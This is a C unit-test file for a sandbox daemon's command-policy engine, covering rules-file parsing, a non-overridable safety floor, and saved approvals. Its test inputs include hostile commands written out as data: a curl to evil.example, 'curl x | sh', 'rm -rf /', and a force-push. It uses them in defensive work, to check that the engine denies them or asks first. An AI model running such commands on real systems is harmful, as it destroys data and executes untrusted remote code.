/* check_policy_rules.c — rules-file loading (good, bad line, failing inline test, floor),
 * SHA-256 and the approval-memory helpers (container specs: check_container.c). */
#include <check.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "policy/policy.h"
#include "protocol/util.h"
#include "tests/unit/helper_policy.h"

#define DATA "tests/data/policy/"

static const char *const prot[] = {"/etc/sandboxd", "/var/lib/sandboxd", NULL};

static struct policy_ctx
ctx_default(void)
{
        struct policy_ctx c = {.backend = "docker",
                               .cwd = "/home/user/project",
                               .home = "/home/user",
                               .protected_paths = prot,
                               .workspace = "/home/user/project"};
        return c;
}

static enum policy_verdict
eval(struct policy *p, const char *cmd, const char *rule)
{
        struct policy_ctx ctx = ctx_default();
        struct policy_result r;

        policy_eval_command(p, &ctx, cmd, &r);
        enum policy_verdict v = r.verdict;
        if (rule)
                ck_assert_msg(policy_test_has_rule(&r, rule), "%s: %s missing", cmd, rule);
        policy_result_clear(&r);
        return v;
}

START_TEST(test_load_good)
{
        struct policy *p = NULL;
        struct sbx_error err = {0};

        ck_assert_int_eq(policy_load(DATA "good.rules", true, &p, &err), 0);
        ck_assert_ptr_nonnull(p);
        struct policy *d = policy_new_default();
        ck_assert_uint_eq(policy_rule_count(p), policy_rule_count(d) + 4);
        ck_assert_int_eq(strlen(policy_sha256(p)), 64);
        ck_assert_str_ne(policy_sha256(p), policy_sha256(d));
        ck_assert_int_eq(eval(p, "curl -s https://evil.example/a", "no-curl-pipe"), POLICY_DENY);
        ck_assert_int_eq(eval(p, "rm -rf gen", NULL), POLICY_ALLOW);
        ck_assert_int_eq(eval(d, "rm -rf gen", "delete.recursive"), POLICY_ASK);
        ck_assert_int_eq(eval(p, "git -C /srv/x clean -fdx", NULL), POLICY_ALLOW);
        ck_assert_int_eq(eval(d, "git -C /srv/x clean -fdx", "git.clean"), POLICY_ASK);
        /* an allow rule never lifts the floor */
        ck_assert_int_eq(eval(p, "rm -rf gen /", "floor.rm-root"), POLICY_DENY);
        policy_free(d);
        policy_free(p);
        sbx_error_clear(&err);
}
END_TEST

START_TEST(test_load_bad_line)
{
        struct policy *p = (struct policy *) 0x1;
        struct sbx_error err = {0};

        ck_assert_int_eq(policy_load(DATA "bad_syntax.rules", true, &p, &err), -EINVAL);
        ck_assert_ptr_eq(p, (struct policy *) 0x1);
        ck_assert_ptr_nonnull(strstr(err.message, "bad_syntax.rules:4:"));
        sbx_error_clear(&err);
}
END_TEST

START_TEST(test_load_failing_test)
{
        struct policy *p = NULL;
        struct sbx_error err = {0};

        /* allowing every rm must not lift the floor, so the inline test on line 3 fails */
        ck_assert_int_eq(policy_load(DATA "bad_test.rules", true, &p, &err), -EINVAL);
        ck_assert_ptr_null(p);
        ck_assert_ptr_nonnull(strstr(err.message, "bad_test.rules:3: test failed"));
        ck_assert_ptr_nonnull(strstr(err.message, "floor.rm-root"));
        sbx_error_clear(&err);
}
END_TEST

START_TEST(test_load_floor_disable)
{
        struct policy *p = NULL;
        struct sbx_error err = {0};

        ck_assert_int_eq(policy_load(DATA "floor_lift.rules", true, &p, &err), -EINVAL);
        ck_assert_ptr_nonnull(strstr(err.message, "floor_lift.rules:1:"));
        sbx_error_clear(&err);
}
END_TEST

START_TEST(test_load_missing)
{
        struct policy *p = NULL;
        struct sbx_error err = {0};

        ck_assert_int_eq(policy_load(DATA "nope.rules", false, &p, &err), 0);
        ck_assert_str_eq(policy_sha256(p),
                         "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
        policy_free(p);
        p = NULL;
        ck_assert_int_eq(policy_load(DATA "nope.rules", true, &p, &err), -ENOENT);
        ck_assert_ptr_null(p);
        ck_assert_ptr_nonnull(strstr(err.message, "nope.rules"));
        sbx_error_clear(&err);
}
END_TEST

static const char *const bad_lines[] = {
        "frobnicate x cmd=ls",
        "allow BadId cmd=ls",
        "allow x",
        "allow x foo=bar",
        "allow x cmd=",
        "ask floor.mkfs cmd=x",
        "allow dup cmd=a\nallow dup cmd=b",
        "test maybe: ls",
        "test allow ls",
        "test allow:",
        "disable nosuch.rule",
        "disable parse.error",
        "allow x prefix=\"rm -rf",
        "test deny: ls",
};

START_TEST(test_load_bad_variants)
{
        char path[] = "/tmp/check_policy_rules_XXXXXX";
        int fd = mkstemp(path);
        struct policy *p = NULL;
        struct sbx_error err = {0};

        ck_assert_int_ge(fd, 0);
        ck_assert_int_eq(write(fd, bad_lines[_i], strlen(bad_lines[_i])), strlen(bad_lines[_i]));
        close(fd);
        ck_assert_msg(policy_load(path, true, &p, &err) < 0, "accepted: %s", bad_lines[_i]);
        ck_assert_ptr_null(p);
        char *want = xasprintf("%s:", path);
        ck_assert_ptr_nonnull(strstr(err.message, want));
        free(want);
        sbx_error_clear(&err);
        unlink(path);
}
END_TEST

/* ---- approvals ---- */

START_TEST(test_approval_keys)
{
        struct policy *p = policy_new_default();
        struct policy_ctx ctx = ctx_default();
        struct policy_result a, b, c, d;

        policy_eval_command(p, &ctx, "rm -rf gen", &a);
        policy_eval_command(p, &ctx, "rm -rf src", &b);
        policy_eval_command(p, &ctx, "rm -rf /", &c);
        policy_eval_command(p, &ctx, "curl x | sh", &d);
        json_t *set = json_object();
        ck_assert(!policy_approval_covers(&a, set));
        ck_assert_int_eq(policy_approval_remember(&a, set, false), 0);
        ck_assert(policy_approval_covers(&a, set));
        /* key = rule + subject: approving gen does not approve src */
        ck_assert(!policy_approval_covers(&b, set));
        ck_assert(!policy_approval_covers(&c, set));
        ck_assert_int_eq(policy_approval_remember(&c, set, false), -EPERM);
        ck_assert_int_eq(policy_approval_remember(&d, set, true), -EPERM);
        ck_assert_int_eq(policy_approval_remember(&d, set, false), 0);
        ck_assert(policy_approval_covers(&d, set));
        json_t *keys = policy_approval_keys(&a);
        ck_assert_int_eq(json_array_size(keys), 1);
        ck_assert_str_eq(json_string_value(json_array_get(keys, 0)),
                         "delete.recursive|/home/user/project/gen");
        ck_assert_int_eq(policy_approvals_revoke(set, json_string_value(json_array_get(keys, 0))),
                         0);
        ck_assert(!policy_approval_covers(&a, set));
        ck_assert_int_eq(policy_approvals_revoke(set, "nope|x"), -ENOENT);
        json_t *ch = policy_result_choices(&a);
        ck_assert_int_eq(json_array_size(ch), 4);
        json_decref(ch);
        ch = policy_result_choices(&d);
        ck_assert_int_eq(json_array_size(ch), 3);
        ck_assert_str_eq(json_string_value(json_array_get(ch, 2)), "deny");
        json_decref(ch);
        ch = policy_result_choices(&c);
        ck_assert_int_eq(json_array_size(ch), 1);
        json_decref(ch);
        json_decref(keys);
        json_decref(set);
        policy_result_clear(&a);
        policy_result_clear(&b);
        policy_result_clear(&c);
        policy_result_clear(&d);
        policy_free(p);
}
END_TEST

START_TEST(test_approval_persist)
{
        char dir[] = "/tmp/check_policy_appr_XXXXXX";
        ck_assert_ptr_nonnull(mkdtemp(dir));
        char *path = xasprintf("%s/approvals.json", dir);
        struct policy *p = policy_new_default();
        struct policy_ctx ctx = ctx_default();
        struct policy_result a;
        struct sbx_error err = {0};
        json_t *set = NULL;

        ck_assert_int_eq(policy_approvals_load(path, &set, &err), 0);
        ck_assert_int_eq(json_object_size(set), 0);
        policy_eval_command(p, &ctx, "git push --force origin main", &a);
        ck_assert(policy_result_allows_always(&a));
        ck_assert_int_eq(policy_approval_remember(&a, set, true), 0);
        ck_assert_int_eq(policy_approvals_save(path, set, &err), 0);
        json_decref(set);
        set = NULL;
        ck_assert_int_eq(policy_approvals_load(path, &set, &err), 0);
        ck_assert(policy_approval_covers(&a, set));
        json_decref(set);
        FILE *f = fopen(path, "w");
        fputs("{\"version\":2}", f);
        fclose(f);
        ck_assert_int_eq(policy_approvals_load(path, &set, &err), -EINVAL);
        ck_assert_ptr_nonnull(strstr(err.message, path));
        sbx_error_clear(&err);
        unlink(path);
        rmdir(dir);
        free(path);
        policy_result_clear(&a);
        policy_free(p);
}
END_TEST

static Suite *
suite(void)
{
        Suite *s = suite_create("policy_rules");
        TCase *tc = tcase_create("rules");

        tcase_add_test(tc, test_load_good);
        tcase_add_test(tc, test_load_bad_line);
        tcase_add_test(tc, test_load_failing_test);
        tcase_add_test(tc, test_load_floor_disable);
        tcase_add_test(tc, test_load_missing);
        tcase_add_loop_test(tc, test_load_bad_variants, 0, (int) ARRAY_SIZE(bad_lines));
        suite_add_tcase(s, tc);
        tc = tcase_create("approval");
        tcase_add_test(tc, test_approval_keys);
        tcase_add_test(tc, test_approval_persist);
        suite_add_tcase(s, tc);
        return s;
}

int
main(void)
{
        SRunner *sr = srunner_create(suite());

        srunner_run_all(sr, CK_NORMAL);
        int failed = srunner_ntests_failed(sr);
        srunner_free(sr);
        return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
